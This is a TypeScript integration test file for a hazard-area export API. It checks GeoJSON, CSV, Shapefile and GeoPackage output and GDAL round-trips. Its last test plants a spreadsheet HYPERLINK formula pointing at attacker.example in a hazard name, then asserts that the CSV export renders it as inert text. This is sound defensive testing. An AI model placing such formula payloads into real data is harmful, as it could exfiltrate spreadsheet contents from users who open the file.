import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mustRun } from '../../server/src/db/local-postgis.install.js';
import { hazardFeature } from '../helpers/features.js';
import { FIXTURES, uploadFixture } from '../helpers/imports.js';
import { type TestApp, startTestApp } from '../helpers/test-app.js';
import { testFetch } from '../helpers/http.js';

let app: TestApp;
let token: string;
let dir: string;

beforeAll(async () => {
  app = await startTestApp();
  token = (await app.user('national_authority', { country: 'LAO' })).token;
  const run = await uploadFixture(app, token, 'hazards.geojson', { country: 'LAO', format: 'geojson' });
  expect((await app.api('POST', `/api/v1/imports/${run.body.id}/commit`, { token })).status).toBe(200);
  dir = await mkdtemp(path.join(tmpdir(), 'sg-export-'));
});
afterAll(async () => {
  await app?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function download(query: string) {
  const response = await testFetch(`${app.base}/api/v1/exports/hazards?${query}`);
  return { response, body: Buffer.from(await response.arrayBuffer()) };
}

/** What GDAL itself reads back from an exported file: feature count, field names, CRS. */
async function ogrSummary(file: string) {
  const info = await mustRun('ogrinfo', ['-ro', '-al', '-so', file]);
  return {
    features: Number(/Feature Count: (\d+)/.exec(info)?.[1]),
    wgs84: /WGS 84|WGS_1984|EPSG","?4326/.test(info),
    fields: [...info.matchAll(/^(\w+): (String|Integer|Integer64|Real|Date)/gm)].map((m) => m[1]),
  };
}

describe('exports of a filtered selection', () => {
  it('GeoJSON with all properties, filtered like GET /hazards', async () => {
    const { response, body } = await download('country=LAO&format=geojson');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/geo\+json/);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="hazards.geojson"');
    const collection = JSON.parse(body.toString('utf8'));
    expect(collection.features.map((f: any) => f.properties.external_ref).sort()).toEqual([
      'LAO-G-001',
      'LAO-G-002',
      'LAO-G-003',
    ]);
    expect(
      collection.features.find((f: any) => f.properties.external_ref === 'LAO-G-002').properties.contamination,
    ).toEqual(['cmr', 'erw']);
    const sha = JSON.parse((await download('country=LAO&classification=SHA&format=geojson')).body.toString('utf8'));
    expect(sha.features).toHaveLength(1);
  });

  it('CSV with a WKT geometry column', async () => {
    const { response, body } = await download('country=LAO&format=csv');
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows] = body.toString('utf8').trimEnd().split(/\r?\n/);
    expect(header).toMatch(/^WKT,id,country,classification,contamination,/);
    expect(rows).toHaveLength(3);
    expect(rows.join('\n')).toMatch(/MULTIPOLYGON/);
    expect(rows.join('\n')).toContain('"cmr,erw"');
  });

  it('CSV whose WKT column GDAL reads back as the published geometries', async () => {
    const { body } = await download('country=LAO&format=csv');
    const file = path.join(dir, 'hazards.csv');
    await writeFile(file, body);
    const read = JSON.parse(await mustRun('ogr2ogr', ['-f', 'GeoJSON', '/vsistdout/', file]));
    const features = read.features as { properties: { id: string }; geometry: unknown }[];
    expect(features).toHaveLength(3);
    const { rows } = await sql<{ equal: boolean }>`
      SELECT ST_Equals(ST_GeomFromGeoJSON(ST_AsGeoJSON(h.geom, 7)), ST_GeomFromGeoJSON(f.geometry)) AS equal
        FROM jsonb_to_recordset(${JSON.stringify(features.map((f) => ({ id: f.properties.id, geometry: f.geometry })))}::jsonb)
             AS f(id bigint, geometry text)
        JOIN hazards h ON h.id = f.id`.execute(app.db);
    expect(rows.map((r) => r.equal)).toEqual([true, true, true]);
  });

  it('zipped Shapefile and GeoPackage that GDAL reads back in WGS 84', async () => {
    for (const [format, name, type] of [
      ['shp', 'hazards.shp.zip', 'application/zip'],
      ['gpkg', 'hazards.gpkg', 'application/geopackage+sqlite3'],
    ] as const) {
      const { response, body } = await download(`country=LAO&format=${format}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe(type);
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
      const file = path.join(dir, name);
      await writeFile(file, body);
      const summary = await ogrSummary(format === 'shp' ? `/vsizip/${file}` : file);
      expect(summary.features).toBe(3);
      expect(summary.wgs84).toBe(true);
      expect(summary.fields).toContain(format === 'shp' ? 'ext_ref' : 'external_ref');
    }
  });

  it('a Shapefile export imports back unchanged (same references, same geometry)', async () => {
    const { body } = await download('country=LAO&format=shp');
    await writeFile(path.join(FIXTURES, '.roundtrip.shp.zip'), body);
    try {
      const run = await uploadFixture(app, token, '.roundtrip.shp.zip', { country: 'LAO', format: 'shp' });
      expect(run.body.counts).toEqual({ features: 3, ok: 3, repaired: 0, rejected: 0 });
      const committed = await app.api('POST', `/api/v1/imports/${run.body.id}/commit`, { token });
      expect(committed.body.committed.inserted).toBe(0);
      expect(committed.body.committed.updated + committed.body.committed.unchanged).toBe(3);
    } finally {
      await rm(path.join(FIXTURES, '.roundtrip.shp.zip'), { force: true });
    }
  });

  it('rejects an unknown format with 400', async () => {
    expect((await download('format=xlsx')).response.status).toBe(400);
  });
});

describe('CSV formula injection', () => {
  it('a hazard named like a spreadsheet formula exports as inert text; numbers stay numbers', async () => {
    const name = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")';
    const square = [
      [
        [103.3, 19.6],
        [103.31, 19.6],
        [103.31, 19.61],
        [103.3, 19.61],
        [103.3, 19.6],
      ],
    ];
    const created = await app.api('POST', '/api/v1/hazards', {
      token,
      body: hazardFeature({ type: 'Polygon', coordinates: square }, { name, external_ref: 'LAO-F-001' }),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const { body } = await download('country=LAO&format=csv');
    const [header, ...rows] = body.toString('utf8').trimEnd().split(/\r?\n/);
    const row = rows.find((line) => line.includes('LAO-F-001'))!;
    expect(row).toContain(`"'${name.replace(/"/g, '""')}"`);
    // No field of any row starts like a formula (a field may be quoted).
    for (const line of rows) expect(line).not.toMatch(/(^|,)"?[=+@]/);
    expect(header).toMatch(/,area_m2,remaining_m2,synthetic$/);
    const [area, remaining] = row.split(',').slice(-3);
    expect(area).toMatch(/^\d+(\.\d+)?$/);
    expect(remaining).toMatch(/^\d+(\.\d+)?$/);
  });
});
